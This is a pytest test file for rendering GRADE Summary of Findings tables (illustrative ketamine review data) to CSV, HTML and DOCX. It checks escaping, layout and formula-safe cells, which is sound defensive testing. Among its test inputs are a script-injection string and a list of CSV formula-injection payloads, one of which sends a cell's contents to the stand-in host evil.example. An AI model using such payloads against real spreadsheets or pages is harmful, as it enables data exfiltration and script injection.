"""Summary of Findings rendering (no database): the CSV reads back to the cells given, with a BOM and formula-safe
cells; the HTML is a well-formed, escaped document with the GRADE layout; the DOCX opens with python-docx, in
landscape, with a repeating header row, the ⊕◯ symbols, the footnotes and the GRADE grades. The example is the
ketamine review (figures illustrative)."""

from __future__ import annotations

import csv
import dataclasses
import io
from dataclasses import dataclass, field
from html.parser import HTMLParser

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from docx.shared import Cm
from hypothesis import given, settings
from hypothesis import strategies as st

from grading.sof import (
    CSV_COLUMNS,
    EXPLANATION,
    GRADE_GRADES,
    GRADE_GRADES_HEADING,
    NO_OUTCOMES,
    SofRow,
    SofTable,
    to_csv,
    to_docx,
)
from grading.sof_html import to_html

SCRIPT = "<script>alert('x')</script>"

PAIN = SofRow(
    outcome="Pain intensity",
    timepoint="24 hours",
    detail="0-10 numerical rating scale; lower is better",
    risk_control="",
    risk_intervention="",
    difference="",
    relative_effect="not pooled",
    participants="215 (3 RCTs)",
    certainty_symbols="⊕◯◯◯",
    certainty_label="Very low",
    footnote_marks=("a", "b"),
    comments="Trials reported pain on different scales; not pooled. " + SCRIPT,
)
HALLUCINATIONS = SofRow(
    outcome="Adverse events: hallucinations",
    timepoint="",
    detail="",
    risk_control="0 per 1,000",
    risk_intervention="0 per 1,000 (0 to 0)",
    difference="0 more per 1,000 (0 fewer to 0 more)",
    relative_effect="RR 5.00 (0.29 to 86.0)",
    participants="10 (1 RCT)",
    certainty_symbols="⊕◯◯◯",
    certainty_label="Very low",
    footnote_marks=("a", "c"),
    comments="",
)
OPIOIDS = SofRow(
    outcome="Opioid consumption",
    timepoint="7 days",
    detail="Oral morphine equivalent, mg/day; lower is better",
    risk_control="The mean opioid consumption was 120 mg/day",
    risk_intervention="MD 15 lower (40 lower to 10 higher)",
    difference="",
    relative_effect="",
    participants="120 (2 RCTs)",
    certainty_symbols="⊕⊕◯◯",
    certainty_label="Low",
    footnote_marks=("b",),
    comments="Ketamine may reduce opioid consumption slightly.",
)
FOOTNOTES = (
    ("a", "Downgraded by one level for study limitations: risk of bias unclear in all three trials."),
    ("b", "Downgraded by two levels for imprecision: few participants, wide confidence intervals."),
    ("c", "Downgraded by two levels for imprecision: one small trial."),
)
KETAMINE = SofTable(
    title="Ketamine vs placebo (both with opioids)",
    population="Adults with refractory cancer pain",
    setting="Inpatients",
    intervention="Ketamine plus opioids",
    comparison="Placebo plus opioids",
    rows=(PAIN, HALLUCINATIONS, OPIOIDS),
    footnotes=FOOTNOTES,
    explanation=EXPLANATION,
)
EMPTY = SofTable(
    title="Ketamine vs morphine <b>& co</b>",
    population="Adults",
    setting="",
    intervention="Ketamine",
    comparison="Morphine",
    rows=(),
    footnotes=(),
    explanation=EXPLANATION,
)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------------------------------------------------- CSV


def test_csv_reads_back_to_the_cells_given_with_a_bom():
    data = to_csv([KETAMINE])
    assert data.startswith(b"\xef\xbb\xbf")
    assert csv_cells(data) == [
        list(CSV_COLUMNS),
        [
            "Ketamine vs placebo (both with opioids)",
            "Pain intensity",
            "24 hours",
            "0-10 numerical rating scale; lower is better",
            "",
            "",
            "",
            "not pooled",
            "215 (3 RCTs)",
            "Very low",
            "⊕◯◯◯",
            f"a: {FOOTNOTES[0][1]}; b: {FOOTNOTES[1][1]}",
            PAIN.comments,
        ],
        [
            "Ketamine vs placebo (both with opioids)",
            "Adverse events: hallucinations",
            "",
            "",
            "0 per 1,000",
            "0 per 1,000 (0 to 0)",
            "0 more per 1,000 (0 fewer to 0 more)",
            "RR 5.00 (0.29 to 86.0)",
            "10 (1 RCT)",
            "Very low",
            "⊕◯◯◯",
            f"a: {FOOTNOTES[0][1]}; c: {FOOTNOTES[2][1]}",
            "",
        ],
        [
            "Ketamine vs placebo (both with opioids)",
            "Opioid consumption",
            "7 days",
            "Oral morphine equivalent, mg/day; lower is better",
            "The mean opioid consumption was 120 mg/day",
            "MD 15 lower (40 lower to 10 higher)",
            "",
            "",
            "120 (2 RCTs)",
            "Low",
            "⊕⊕◯◯",
            f"b: {FOOTNOTES[1][1]}",
            "Ketamine may reduce opioid consumption slightly.",
        ],
    ]


def test_csv_columns_are_the_documented_ones():
    assert CSV_COLUMNS == (
        "comparison",
        "outcome",
        "timepoint",
        "detail",
        "risk_control",
        "risk_intervention",
        "difference",
        "relative_effect",
        "participants",
        "certainty",
        "certainty_symbols",
        "footnotes",
        "comments",
    )


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1"],
)
def test_csv_neutralises_formula_cells(hostile):
    row = dataclasses.replace(PAIN, outcome=hostile, comments=hostile, footnote_marks=())
    table = dataclasses.replace(KETAMINE, title=hostile, rows=(row,))
    _, cells = csv_cells(to_csv([table]))
    assert cells[0] == cells[1] == cells[12] == "'" + hostile
    assert cells[2] == "24 hours"


def test_csv_footnote_marks_without_a_text_keep_the_mark():
    row = dataclasses.replace(PAIN, footnote_marks=("b", "z"))
    _, cells = csv_cells(to_csv([dataclasses.replace(KETAMINE, rows=(row,))]))
    assert cells[CSV_COLUMNS.index("footnotes")] == f"b: {FOOTNOTES[1][1]}; z"


def test_csv_several_tables_one_after_the_other_and_an_empty_one_adds_no_line():
    other = dataclasses.replace(KETAMINE, title="Ketamine vs morphine", rows=(OPIOIDS,))
    header, *rows = csv_cells(to_csv([KETAMINE, EMPTY, other]))
    assert header == list(CSV_COLUMNS)
    assert [(row[0], row[1]) for row in rows] == [
        ("Ketamine vs placebo (both with opioids)", "Pain intensity"),
        ("Ketamine vs placebo (both with opioids)", "Adverse events: hallucinations"),
        ("Ketamine vs placebo (both with opioids)", "Opioid consumption"),
        ("Ketamine vs morphine", "Opioid consumption"),
    ]
    assert csv_cells(to_csv([])) == [list(CSV_COLUMNS)]


# --------------------------------------------------------------------------------------------------------- HTML

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


@dataclass
class Node:
    tag: str
    attrs: dict[str, str | None] = field(default_factory=dict)
    children: list[Node | str] = field(default_factory=list)

    def text(self) -> str:
        return "".join(child if isinstance(child, str) else child.text() for child in self.children)

    def find_all(self, tag: str) -> list[Node]:
        found = []
        for child in self.children:
            if isinstance(child, Node):
                if child.tag == tag:
                    found.append(child)
                found.extend(child.find_all(tag))
        return found

    def elements(self) -> list[Node]:
        return [child for child in self.children if isinstance(child, Node)]


class StrictTree(HTMLParser):
    """A tree from html.parser that fails on what a lenient browser would repair: an end tag that does not
    close the open element, an element left open, an end tag for a void element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document")
        self.stack = [self.root]
        self.doctype = ""

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag, attrs):
        node = Node(tag, dict(attrs))
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag, attrs):
        self.stack[-1].children.append(Node(tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert tag not in VOID, f"end tag for void element <{tag}>"
        assert self.stack[-1].tag == tag, f"</{tag}> closes <{self.stack[-1].tag}>"
        self.stack.pop()

    def handle_data(self, data):
        self.stack[-1].children.append(data)


def parse(document: str) -> tuple[str, Node]:
    parser = StrictTree()
    parser.feed(document)
    parser.close()
    assert parser.stack == [parser.root], f"unclosed: {[node.tag for node in parser.stack[1:]]}"
    return parser.doctype, parser.root


def test_html_is_a_well_formed_standalone_document():
    document = to_html([KETAMINE], title="Summary of findings: ketamine <review>")
    doctype, root = parse(document)
    assert doctype.lower() == "doctype html"
    (html,) = root.elements()
    assert html.tag == "html" and html.attrs["lang"] == "en"
    head, body = html.elements()
    assert [meta.attrs.get("charset") for meta in head.find_all("meta")][0] == "utf-8"
    assert head.find_all("title")[0].text() == "Summary of findings: ketamine <review>"
    assert head.find_all("style") and "@page" in head.find_all("style")[0].text()
    assert body.find_all("h1")[0].text() == "Summary of findings: ketamine <review>"
    assert not root.find_all("script") and not root.find_all("review")
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in document


def test_html_table_has_the_grade_layout():
    _, root = parse(to_html([KETAMINE], title="SoF"))
    (table,) = root.find_all("table")
    caption = table.find_all("caption")[0].text()
    assert "Ketamine vs placebo (both with opioids)" in caption
    assert "Patient or population: Adults with refractory cancer pain" in caption
    assert "Comparison: Placebo plus opioids" in caption
    assert len(table.find_all("col")) == 7

    (thead,) = table.find_all("thead")
    top, sub = thead.find_all("tr")
    assert [(th.text(), th.attrs.get("scope"), th.attrs.get("colspan")) for th in top.find_all("th")] == [
        ("Outcomes", "col", None),
        ("Anticipated absolute effects* (95% CI)", "colgroup", "2"),
        ("Relative effect (95% CI)", "col", None),
        ("№ of participants (studies)", "col", None),
        ("Certainty of the evidence (GRADE)", "col", None),
        ("Comments", "col", None),
    ]
    assert [(th.text(), th.attrs.get("scope")) for th in sub.find_all("th")] == [
        ("Risk with Placebo plus opioids", "col"),
        ("Risk with Ketamine plus opioids", "col"),
    ]

    (tbody,) = table.find_all("tbody")
    rows = tbody.find_all("tr")
    assert len(rows) == 3
    assert all(len(row.elements()) == 7 for row in rows)
    pain = rows[0].elements()
    assert pain[0].tag == "th" and pain[0].attrs["scope"] == "row"
    assert pain[0].text() == "Pain intensity0-10 numerical rating scale; lower is betterFollow-up: 24 hours"
    assert pain[3].text() == "not pooled" and pain[4].text() == "215 (3 RCTs)"
    assert pain[5].text() == "⊕◯◯◯Very lowa,b"
    assert [sup.text() for sup in pain[5].find_all("sup")] == ["a,b"]
    assert pain[6].text() == PAIN.comments
    hallucinations = rows[1].elements()
    assert hallucinations[2].text() == "0 per 1,000 (0 to 0)0 more per 1,000 (0 fewer to 0 more)"
    assert hallucinations[3].text() == "RR 5.00 (0.29 to 86.0)"
    assert rows[2].elements()[5].text() == "⊕⊕◯◯Lowb"


def test_html_footnotes_explanation_and_grades_follow_the_table():
    _, root = parse(to_html([KETAMINE], title="SoF"))
    (section,) = root.find_all("section")
    paragraphs = [p.text() for p in section.find_all("p")]
    assert paragraphs == [f"{mark} {text}" for mark, text in FOOTNOTES] + [EXPLANATION]
    assert [p.find_all("sup")[0].text() for p in section.find_all("p")[:3]] == ["a", "b", "c"]
    assert section.find_all("h3")[0].text() == GRADE_GRADES_HEADING
    assert [dd.text() for dd in section.find_all("dd")] == [definition for _, definition in GRADE_GRADES]
    assert [dt.text() for dt in section.find_all("dt")] == [
        "High certainty:",
        "Moderate certainty:",
        "Low certainty:",
        "Very low certainty:",
    ]


def test_html_several_tables_and_an_empty_one():
    _, root = parse(to_html([KETAMINE, EMPTY], title="SoF"))
    first, second = root.find_all("table")
    assert len(first.find_all("tbody")[0].find_all("tr")) == 3
    (empty_row,) = second.find_all("tbody")[0].find_all("tr")
    (cell,) = empty_row.elements()
    assert cell.text() == NO_OUTCOMES and cell.attrs["colspan"] == "7"
    assert second.find_all("caption")[0].find_all("span")[0].text() == "Ketamine vs morphine <b>& co</b>"
    assert not second.find_all("b")
    assert "Setting" not in second.find_all("caption")[0].text()


# --------------------------------------------------------------------------------------------------------- DOCX


def open_docx(data: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(data))


def test_docx_is_a4_landscape():
    document = open_docx(to_docx([KETAMINE], title="SoF"))
    (section,) = document.sections
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert section.page_width is not None and section.page_height is not None
    assert abs(section.page_width - Cm(29.7)) < Cm(0.01) and abs(section.page_height - Cm(21.0)) < Cm(0.01)
    assert document.core_properties.title == "SoF"


def test_docx_table_has_the_grade_layout_and_the_cells_given():
    document = open_docx(to_docx([KETAMINE], title="SoF"))
    (table,) = document.tables
    assert len(table.columns) == 7
    top, sub, pain, hallucinations, opioids = table.rows
    assert [cell.text for cell in top.cells] == [
        "Outcomes",
        "Anticipated absolute effects* (95% CI)",
        "Anticipated absolute effects* (95% CI)",
        "Relative effect (95% CI)",
        "№ of participants (studies)",
        "Certainty of the evidence (GRADE)",
        "Comments",
    ]
    assert [cell.text for cell in sub.cells][1:3] == [
        "Risk with Placebo plus opioids",
        "Risk with Ketamine plus opioids",
    ]
    assert [cell.text for cell in pain.cells] == [
        "Pain intensity\n0-10 numerical rating scale; lower is better\nFollow-up: 24 hours",
        "",
        "",
        "not pooled",
        "215 (3 RCTs)",
        "⊕◯◯◯\nVery lowa,b",
        PAIN.comments,
    ]
    assert [cell.text for cell in hallucinations.cells][1:4] == [
        "0 per 1,000",
        "0 per 1,000 (0 to 0)\n0 more per 1,000 (0 fewer to 0 more)",
        "RR 5.00 (0.29 to 86.0)",
    ]
    assert opioids.cells[5].text == "⊕⊕◯◯\nLowb"


def test_docx_symbols_have_a_font_that_holds_them_and_marks_are_superscript():
    document = open_docx(to_docx([KETAMINE], title="SoF"))
    certainty = document.tables[0].rows[2].cells[5]
    symbols_run = certainty.paragraphs[0].runs[0]
    assert symbols_run.text == "⊕◯◯◯"
    r_fonts = symbols_run._element.rPr.rFonts
    assert r_fonts.get(qn("w:ascii")) == r_fonts.get(qn("w:hAnsi")) == "Segoe UI Symbol"
    assert r_fonts.get(qn("w:eastAsia")) == "DejaVu Sans"
    label, marks = certainty.paragraphs[1].runs
    assert (label.text, marks.text, marks.font.superscript) == ("Very low", "a,b", True)


def test_docx_header_rows_repeat_and_are_shaded():
    document = open_docx(to_docx([KETAMINE], title="SoF"))
    rows = document.tables[0].rows

    def repeats(row) -> bool:
        tr_pr = row._tr.trPr
        return tr_pr is not None and tr_pr.find(qn("w:tblHeader")) is not None

    def fill(tc) -> str | None:
        shd = tc.tcPr.find(qn("w:shd")) if tc.tcPr is not None else None
        return None if shd is None else shd.get(qn("w:fill"))

    assert [repeats(row) for row in rows] == [True, True, False, False, False]
    assert {fill(tc) for row in rows[:2] for tc in row._tr.tc_lst} == {"D9E2F3"}
    assert len([tc for row in rows[:2] for tc in row._tr.tc_lst]) == 7 + 7 - 1  # one merged across two columns
    assert {fill(tc) for row in rows[2:] for tc in row._tr.tc_lst} == {None}


def test_docx_footnotes_explanation_and_grades_follow_the_table():
    document = open_docx(to_docx([KETAMINE], title="SoF"))
    texts = [paragraph.text for paragraph in document.paragraphs]
    notes = texts[texts.index(f"a {FOOTNOTES[0][1]}") :]
    assert notes[:3] == [f"{mark} {text}" for mark, text in FOOTNOTES]
    assert notes[3:5] == [EXPLANATION, GRADE_GRADES_HEADING]
    assert notes[5:] == [f"{label}: {definition}" for label, definition in GRADE_GRADES]
    footnote = next(p for p in document.paragraphs if p.text.startswith("a "))
    assert footnote.runs[0].font.superscript is True
    body = document.element.body
    assert body.index(document.tables[0]._tbl) < body.index(footnote._p)


def test_docx_several_tables_each_from_a_new_page_and_an_empty_one():
    document = open_docx(to_docx([KETAMINE, EMPTY], title="SoF"))
    first, second = document.tables
    assert len(first.rows) == 5
    assert len(second.rows) == 3
    assert {cell.text for cell in second.rows[2].cells} == {NO_OUTCOMES}
    headings = [p for p in document.paragraphs if p.style is not None and p.style.name == "Heading 1"]
    assert [p.text for p in headings] == [KETAMINE.title, EMPTY.title]
    assert [p.paragraph_format.page_break_before for p in headings] == [False, True]
    assert document.paragraphs[0].text == "SoF"


def test_docx_drops_characters_xml_cannot_hold():
    row = dataclasses.replace(PAIN, comments="vertical\x0btab and nul\x00")
    document = open_docx(to_docx([dataclasses.replace(KETAMINE, rows=(row,))], title="SoF\x01"))
    assert document.tables[0].rows[2].cells[6].text == "verticaltab and nul"


# ----------------------------------------------------------------------------------------------------- any text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@settings(max_examples=60, deadline=None)
@given(text=st.text(max_size=40))
def test_any_text_renders_everywhere(text):
    row = dataclasses.replace(HALLUCINATIONS, outcome=text or "x", comments=text, footnote_marks=(text,))
    table = dataclasses.replace(KETAMINE, title=text, rows=(row,), footnotes=((text, text),))

    _, cells = csv_cells(to_csv([table]))
    neutral = "'" + text if text.lstrip().startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS) else text
    assert cells[CSV_COLUMNS.index("comments")] == neutral

    _, root = parse(to_html([table], title=text))
    body_row = root.find_all("tbody")[0].find_all("tr")[0].elements()
    assert body_row[6].text() == text
    assert len(body_row) == 7

    document = open_docx(to_docx([table], title=text))
    assert len(document.tables[0].rows) == 3


def test_the_title_reads_as_one_sentence():
    from grading.selectors_sof import _mid_sentence

    assert _mid_sentence("Adults with cancer pain that is not controlled by opioids") == (
        "adults with cancer pain that is not controlled by opioids"
    )
    assert _mid_sentence("Opioid + placebo") == "opioid + placebo"
    assert _mid_sentence("HIV-positive adults") == "HIV-positive adults"
    assert _mid_sentence("COPD") == "COPD" and _mid_sentence("") == "" and _mid_sentence("a") == "a"
